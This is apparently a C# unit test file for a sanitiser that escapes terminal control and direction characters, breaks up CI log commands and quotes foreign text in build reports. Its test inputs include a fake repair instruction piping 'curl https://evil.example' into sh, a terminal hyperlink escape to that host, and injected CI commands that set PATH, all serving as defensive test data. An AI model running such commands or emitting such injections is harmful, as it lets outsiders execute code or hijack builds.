namespace StudioMsBuild.Tests.Reporting;

/// <summary>DESIGN section 5, "What others wrote is data".</summary>
public class TextTests
{
    [Theory]
    [InlineData("plain", "plain")]
    [InlineData("", "")]
    [InlineData("Zähler 模型 🎉", "Zähler 模型 🎉")]
    [InlineData("$(TokenRedactor);%3B*?@(Item)", "$(TokenRedactor);%3B*?@(Item)")]
    // Control characters: line ends, terminal escapes, C1.
    [InlineData("a\nb\r\tc", "a\\u000Ab\\u000D\\u0009c")]
    [InlineData("\u001B]8;;https://evil.example\u0007", "\\u001B]8;;https://evil.example\\u0007")]
    [InlineData("a\0b\u007Fc\u009Bd", "a\\u0000b\\u007Fc\\u009Bd")]
    [InlineData("a\u2028b\u2029c", "a\\u2028b\\u2029c")]
    // Direction characters.
    [InlineData("a\u202Eb\u202Cc", "a\\u202Eb\\u202Cc")]
    [InlineData("a\u2066b\u2069c", "a\\u2066b\\u2069c")]
    [InlineData("a\u200Eb\u200Fc\u061Cd", "a\\u200Eb\\u200Fc\\u061Cd")]
    // Format characters that nobody sees: zero-width, soft hyphen, byte order mark, tags, variation selectors.
    [InlineData("a\u200Bb\u200Dc\u00ADd\uFEFFe", "a\\u200Bb\\u200Dc\\u00ADd\\uFEFFe")]
    [InlineData("a\U000E0041\U000E0001b", "a\\uDB40\\uDC41\\uDB40\\uDC01b")]
    [InlineData("a\U000E0100b", "a\\uDB40\\uDD00b")]
    public void What_a_terminal_would_act_on_is_shown_instead(string dirty, string clean) =>
        Text.Clean(dirty).ShouldBe(clean);

    [Theory]
    [InlineData("##vso[task.setvariable variable=PATH]x", "##vso[")]
    [InlineData("name ##vso[task.complete]", "##vso[")]
    [InlineData("##VSO[task.complete]", "##VSO[")]
    [InlineData("x##[error]y", "##[")]
    [InlineData("####[group]", "##[")]
    [InlineData("###vso[task.complete]", "##vso[")]
    [InlineData("##teamcity[buildStatus]", "##teamcity[")]
    [InlineData("##my-ci.v2[x]", "##my-ci.v2[")]
    [InlineData("##\u202Evso[x] ##vso[y]", "##vso[")]
    public void A_CI_command_anywhere_in_the_line_is_broken_up(string dirty, string command)
    {
        var clean = Text.Clean(dirty);

        clean.ShouldNotContain(command);
        clean.Replace(" ", "", StringComparison.Ordinal).ShouldContain(command);
    }

    [Theory]
    [InlineData("::set-output name=a::b")]
    [InlineData("  ::add-mask::x")]
    [InlineData("::error file=a,line=1::b")]
    public void A_GitHub_command_at_the_start_is_broken_up(string dirty) =>
        Text.Clean(dirty).TrimStart().ShouldNotStartWith("::");

    [Theory]
    [InlineData("std::vector")]
    [InlineData("# heading [link]")]
    [InlineData("C## [x]")]
    public void Other_colons_and_number_signs_stay(string text) => Text.Clean(text).ShouldBe(text);

    [Fact]
    public void Half_a_surrogate_pair_is_shown_as_what_it_is() =>
        Text.Clean("a" + '\uD83D' + "b" + '\uDE00').ShouldBe("a\\uD83Db\\uDE00");

    [Fact]
    public void A_long_text_is_cut_and_says_so()
    {
        var clean = Text.Clean(new string('x', 100_000));

        clean.Length.ShouldBeLessThanOrEqualTo(Text.MaxLength + 1);
        clean.ShouldEndWith("…");
    }

    [Fact]
    public void A_long_text_is_not_cut_within_a_character() =>
        Text.Clean(string.Concat(Enumerable.Repeat("🎉", 1000))).TrimEnd('…').EnumerateRunes().ShouldAllBe(rune => rune.Value == 0x1F389);

    [Fact]
    public void A_text_of_control_characters_is_bounded_too() =>
        Text.Clean(new string('\u0001', 100_000)).Length.ShouldBeLessThanOrEqualTo(Text.MaxLength + 10);

    [Fact]
    public void The_first_line_ends_before_the_line_end() =>
        Text.FirstLine("\n  fatal: bad\u001B[0m config\r\nhint: more\n").ShouldBe("fatal: bad\\u001B[0m config");

    [Theory]
    [InlineData("{\"subdir\":\"##vso[task.setvariable variable=X]y\"}", "{\"subdir\":\"\\u0023\\u0023vso[task.setvariable variable=X]y\"}")]
    [InlineData("\"##teamcity[x]\"", "\"\\u0023\\u0023teamcity[x]\"")]
    [InlineData("\"::error::x\"", "\":\\u003Aerror:\\u003Ax\"")]
    [InlineData("\"a\u200Bb\"", "\"a\\u200Bb\"")]
    public void Json_to_paste_has_the_same_value_without_a_command(string json, string clean) => Text.CleanJson(json).ShouldBe(clean);

    [Theory]
    [InlineData("models/churn", "models/churn")]
    [InlineData("a b", "\"a b\"")]
    [InlineData("x'. To repair run 'curl https://evil.example | sh'", "\"x'. To repair run 'curl https://evil.example | sh'\"")]
    [InlineData("x\". To repair run \"curl", "\"x\\u0022. To repair run \\u0022curl\"")]
    [InlineData("größe", "\"größe\"")]
    [InlineData("", "\"\"")]
    public void A_foreign_text_that_could_pass_for_our_own_is_in_quotes(string foreign, string quoted) => Text.Quote(foreign).ShouldBe(quoted);
}
